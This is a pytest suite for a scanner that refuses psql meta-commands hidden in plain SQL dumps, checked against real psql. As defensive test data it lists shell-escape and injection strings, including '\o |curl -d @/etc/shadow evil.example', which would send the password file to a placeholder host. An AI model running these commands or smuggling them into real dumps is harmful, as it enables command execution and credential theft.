"""The plain-dump scanner: where psql would run a meta-command, and where a backslash is data.

The table below is checked against the scanner; the last test checks the scanner against psql
itself (random fragments, `\\echo` as the meta-command) on a real compute.
"""

from __future__ import annotations

import random
import subprocess

import pytest

from tierbase import Tierbase
from tierbase.compute import psqlscan
from tierbase.errors import UnsafeDump

SAFE = [
    "CREATE FUNCTION f() RETURNS text AS $$ SELECT '\\! id' $$ LANGUAGE sql;\n",
    "CREATE FUNCTION f() RETURNS text AS $body$\n\\! id\n$body$ LANGUAGE sql;\n",
    "COPY t (a, b) FROM stdin;\n1\t\\N\n\\! id\n\\.\nSELECT 1;\n",
    "\\restrict abc123\nSELECT 1;\n\\unrestrict abc123\n",
    "SELECT E'a\\' \\! id ';\n",
    "SELECT e'x', 'y\\';\n",
    "/* \\! id /* nested */ still \\! */ SELECT 1;\n",
    "-- \\! id\nSELECT 1;\n",
    "SET standard_conforming_strings = on;\nSET client_encoding = 'UTF8';\n",
    "SELECT 1$$ \\! id $$;\n",
    "CREATE TABLE x (a text DEFAULT 'it''s \\ fine');\n",
    "PREPARE p AS SELECT 1;\n",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END;\nSELECT 1;\n",
    "INSERT INTO t (a, b) VALUES (1, E'a\\' ; \\! x'), (2, 'b');\n",
    "INSERT INTO t (a, b) VALUES (1, $q$ \\! $q$), (2, $$;\\!$$);\nSELECT 1;\n",
    "INSERT INTO t (a, b) VALUES (1, 2) /* ; \\! */ -- \\!\n;\nCOPY t FROM stdin;\n\\! data\n\\.\n",
    "INSERT INTO t (a, b) VALUES ($1, \"x\\\"\"); \\! y\n",
    "CREATE TABLE x (a int, b int, c text DEFAULT E'\\';\\!');\n",
]
REFUSED = [
    "SELECT 1;\n\\! id\n",
    "SELECT 1; \\! id\n",
    "\\o |id\n",
    "\\copy t from program 'id'\n",
    "\\i /etc/passwd\n",
    "\\ir x\n",
    "\\set x 1\n",
    "\\connect foo\n",
    "SELECT 1 \\gexec\n",
    "SELECT 1 \\; SELECT 2;\n",
    "COPY public.t (a, \"B\") FROM stdin;\n1\t\\N\n\\.\n\\! id\n",
    "COPY t FROM stdin; \\! id\n1\n\\.\n",
    "COPY (SELECT 'FROM STDIN') TO STDOUT;\n\\! id\n",
    "COPY (SELECT * FROM stdin) TO STDOUT;\n",
    "SELECT (1; COPY t FROM stdin;\n\\! id\n\\.\n",
    "SELECT 'a\\' ; \\! id ';\n",
    "SELECT E\n'a\\' \\! id ';\n",
    'SELECT "a\\"; \\! x\n',
    "SET standard_conforming_strings = off;\n",
    "SET client_encoding = 'SJIS';\n",
    "SELECT a$$b FROM t; \\! id\n",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; COPY t FROM stdin; END;\n\\! id\n",
    "BEGIN;\nSELECT 1;\nCOMMIT;\n",
    "SELECT 1;\nCOMMIT;\n",
    "PREPARE TRANSACTION 'x';\n",
    "INSERT INTO t (a, b) VALUES (1, 'a\\' ; \\! x');\n",
    "INSERT INTO t (a, b) VALUES (1, xE'a\\' ; \\! x');\n",
    "INSERT INTO t (a, b) VALUES (1, $q$ \\! $q$), (2, $$;\\!$$);\nSELECT 1; \\! x\n",
    "INSERT INTO t (a, b) VALUES (a$$b, 1); \\! x\n",
    "INSERT INTO t (a, b) VALUES (1e$$, 1); \\! x\n",
    "INSERT INTO t (a, b) VALUES (1e5$$, 1); \\! x $$);\n",
    "SELECT a, b, c, d FROM t WHERE x = (SELECT 1; COPY t FROM stdin;\n\\! id\n\\.\n",
    "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; COPY t FROM stdin; END;\n\\! id\n",
]


def scan(text: str) -> psqlscan.Scan:
    return psqlscan.scan(text.encode().splitlines(keepends=True))


@pytest.mark.parametrize("text", SAFE)
def test_data_and_sql_pass(text: str) -> None:
    scan(text)


@pytest.mark.parametrize("text", REFUSED)
def test_meta_commands_and_what_would_hide_them_are_refused(text: str) -> None:
    with pytest.raises(UnsafeDump) as got:
        scan(text)
    assert got.value.data["line"] >= 1 and got.value.exit_code == 1


def test_the_message_names_line_and_command_but_not_the_rest_of_the_line() -> None:
    with pytest.raises(UnsafeDump) as got:
        scan("SELECT 1;\nSELECT 2;\n\\o |curl -d @/etc/shadow evil.example\n")
    assert got.value.data == {"line": 3, "command": "\\o"}
    assert "shadow" not in str(got.value) and "curl" not in str(got.value)


def test_pg_dumps_own_restrict_lines_are_returned_to_drop() -> None:
    assert scan("\\restrict k1\nSELECT 1;\n\\unrestrict k1\n").drop_lines == {1, 3}
    with pytest.raises(UnsafeDump):
        scan("\\restrict k1 ; \\! id\n")


def test_the_fast_path_agrees_with_the_token_by_token_path(monkeypatch: pytest.MonkeyPatch) -> None:
    rng = random.Random(5)
    cases = [rng.choice(["", "INSERT INTO t (a, b) VALUES ", "SELECT a, b, c, "])
             + "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 25))) for _ in range(3000)]
    fast = [_outcome(c) for c in cases]
    monkeypatch.setattr(psqlscan._Scanner, "_settled", lambda self: False)
    assert [_outcome(c) for c in cases] == fast


PIECES = [" t", " (", ")", " ", "'", "''", "E'", "e'", "\\\\", "\\echo MARK\n", " x", "$$", "$q$", "$1", "1", "1e",
          "1e5", "a$b", "\"", "\"\"", ";", "\n", "--", "/*", "*/", "SELECT", " CREATE", " FUNCTION", " BEGIN", " END",
          " CASE", ".", ",", "-", "/", "E", "xE'", "(", "((", "))", "U&'", "$a$", "1.E'", " ATOMIC", "1e+5",
          "1e-", "--x"]


def _outcome(text: str) -> tuple[str, object]:
    try:
        return "ok", sorted(scan(text).drop_lines)
    except UnsafeDump as err:
        return "refused", err.data.get("line")


def test_the_scanner_agrees_with_psql(platform: Tierbase) -> None:
    """psql decides what is a meta-command: fragments the scanner passes must run none in psql, and
    fragments it refuses for a meta-command must run one (psql without ON_ERROR_STOP, so it goes on)."""
    url = platform.branch_url("production", direct=True)
    psql = platform.branches.provider.pg.bins["psql"]
    rng = random.Random(11)
    checked = 0
    while checked < 150:
        text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 20))) + "\n"
        try:
            scan(text)
            refused = False
        except UnsafeDump as err:
            if "meta-command" not in err.message:
                continue  # transaction control or a COPY shape: psql has no opinion
            refused = True
        got = subprocess.run([psql, "-X", "-q", "-f", "-", "-d", url], input=text, capture_output=True, text=True,
                             timeout=30)
        ran = "MARK" in got.stdout or "invalid command" in got.stderr
        assert ran == refused, (text, got.stdout, got.stderr)
        checked += 1
